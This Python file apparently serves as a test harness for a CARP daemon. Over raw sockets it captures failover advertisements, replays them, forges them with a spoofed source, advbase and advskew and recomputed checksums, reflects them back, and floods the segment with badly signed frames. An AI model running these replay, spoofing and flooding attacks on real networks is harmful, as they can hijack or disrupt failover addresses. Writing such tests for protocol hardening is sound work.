#!/usr/bin/env python3
"""A third host on the segment that attacks CARP with what it can capture, for test_hostile.sh.

    hostile.py IFACE record SOURCE FILE SECONDS
        writes every advertisement seen from SOURCE, one hex frame a line, to FILE
    hostile.py IFACE replay FILE SECONDS PERIOD [LAST]
        sends the last LAST (default 1) recorded frames again, in turn, one every PERIOD
        seconds, byte for byte (a dead master's adverts replayed); with HOSTILE_GO=PATH in
        the environment it writes PATH.ready once its socket is open and sends nothing before
        PATH exists (started ahead, it loses no time to starting up when it is needed)
    hostile.py IFACE forge FILE SECONDS PERIOD NEWSOURCE ADVBASE ADVSKEW
        sends the last recorded frame again and again, rewritten: another IP source, advbase
        and advskew (none of which the digest covers), checksums made good again
    hostile.py IFACE reflect SOURCE SECONDS NEWSOURCE ADVBASE ADVSKEW
        sends every advertisement SOURCE sends straight back, rewritten as forge does
    hostile.py IFACE flood SECONDS
        sends frames for vhid 7 with good checksums and a bad digest (wrong password) as fast
        as it can; prints how many it sent and the rate

Written from the CARP header's description (as inject.py), not from the daemon's code: it
only rewrites captured frames or signs with a wrong password.
"""
import os
import socket
import struct
import sys
import time

from inject import checksum, frame

ETH_P_ALL = 3
SOL_PACKET, PACKET_QDISC_BYPASS = 263, 20
PACKET_OUTGOING = 4


def is_advert_from(data, source):
    if len(data) < 14 + 20 + 36 or data[12:14] != b"\x08\x00":
        return False
    ihl = (data[14] & 0x0F) * 4
    return data[14 + 9] == 112 and socket.inet_ntoa(data[14 + 12:14 + 16]) == source and len(data) >= 14 + ihl + 36


def rewrite(data, source, advbase, advskew):
    """The frame with another IP source, advbase and advskew; both checksums recomputed."""
    data = bytearray(data)
    ihl = (data[14] & 0x0F) * 4
    ip, carp = 14, 14 + ihl
    data[ip + 12:ip + 16] = socket.inet_aton(source)
    data[ip + 10:ip + 12] = b"\0\0"
    data[ip + 10:ip + 12] = struct.pack("!H", checksum(bytes(data[ip:carp])))
    data[carp + 2] = advskew
    data[carp + 5] = advbase
    data[carp + 6:carp + 8] = b"\0\0"
    data[carp + 6:carp + 8] = struct.pack("!H", checksum(bytes(data[carp:carp + 36])))
    return bytes(data)


def listener(interface):
    raw = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
    raw.bind((interface, 0))
    return raw


def adverts_from(raw, source, seconds):
    end = time.monotonic() + seconds
    while True:
        left = end - time.monotonic()
        if left <= 0:
            return
        raw.settimeout(left)
        try:
            data, address = raw.recvfrom(2048)
        except socket.timeout:
            return
        if address[2] != PACKET_OUTGOING and is_advert_from(data, source):
            yield data


def recorded(path, last):
    with open(path) as lines:
        frames = [bytes.fromhex(line.strip()) for line in lines if line.strip()]
    if not frames:
        sys.exit("no frame recorded in " + path)
    return frames[-last:]


def send_every(raw, frames, seconds, period):
    end, sent = time.monotonic() + seconds, 0
    while time.monotonic() < end:
        raw.send(frames[sent % len(frames)])
        sent += 1
        time.sleep(period)
    print("sent %d" % sent)


def wait_for_go(path):
    if not path:
        return
    with open(path + ".ready", "w"):
        pass
    while not os.path.exists(path):
        time.sleep(0.005)


def main():
    interface, mode, args = sys.argv[1], sys.argv[2], sys.argv[3:]
    raw = listener(interface)
    if mode == "record":
        source, path, seconds = args[0], args[1], float(args[2])
        with open(path, "a") as out:
            for data in adverts_from(raw, source, seconds):
                out.write(data.hex() + "\n")
                out.flush()
    elif mode == "replay":
        frames = recorded(args[0], int(args[3]) if len(args) > 3 else 1)
        wait_for_go(os.environ.get("HOSTILE_GO"))
        send_every(raw, frames, float(args[1]), float(args[2]))
    elif mode == "forge":
        frames = [rewrite(f, args[3], int(args[4]), int(args[5])) for f in recorded(args[0], 1)]
        send_every(raw, frames, float(args[1]), float(args[2]))
    elif mode == "reflect":
        source, seconds, new_source = args[0], float(args[1]), args[2]
        sent = 0
        for data in adverts_from(raw, source, seconds):
            raw.send(rewrite(data, new_source, int(args[3]), int(args[4])))
            sent += 1
        print("reflected %d" % sent)
    elif mode == "flood":
        frames = [frame("digest", counter) for counter in range(1, 257)]
        seconds, sent = float(args[0]), 0
        # Straight to the driver, past the queueing discipline: the highest rate we can make.
        raw.setsockopt(SOL_PACKET, PACKET_QDISC_BYPASS, 1)
        send = raw.send
        start = time.monotonic()
        end = start + seconds
        while time.monotonic() < end:
            for data in frames:
                try:
                    send(data)
                    sent += 1
                except OSError:
                    # A full device queue (ENOBUFS): not counted, keep going.
                    pass
        print("flood %d frames in %.1f s: %d/s" % (sent, seconds, sent / (time.monotonic() - start)))
    else:
        sys.exit("unknown mode " + mode)


if __name__ == "__main__":
    main()
